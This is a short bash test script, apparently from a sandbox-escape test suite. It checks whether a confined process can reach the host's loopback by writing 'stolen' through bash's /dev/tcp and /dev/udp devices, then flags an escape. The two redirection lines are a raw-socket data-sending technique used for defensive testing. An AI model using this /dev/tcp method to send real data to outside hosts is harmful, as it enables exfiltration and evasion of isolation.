#!/bin/bash
# Connects to the host's loopback by the shell's own /dev/tcp and /dev/udp.
. "${0%/*}/../escape.sh"
(echo stolen > "/dev/tcp/127.0.0.1/$TCP4") 2> /dev/null && escaped /dev/tcp
(echo stolen > "/dev/udp/127.0.0.1/$UDP") 2> /dev/null && escaped /dev/udp
judge
